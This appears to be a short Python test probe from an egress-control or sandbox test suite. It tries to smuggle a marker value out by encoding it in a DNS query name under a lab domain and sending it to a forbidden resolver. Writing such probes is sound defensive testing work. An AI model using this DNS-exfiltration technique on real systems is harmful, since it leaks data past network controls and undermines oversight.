# SPDX-License-Identifier: Apache-2.0
"""A question that holds data, to another resolver."""
from aim import FORBIDDEN4, MARK, query, run, udp


def attempt():
    udp().sendto(query(MARK.decode() + ".lab.example"), (FORBIDDEN4, 53))


run(attempt)
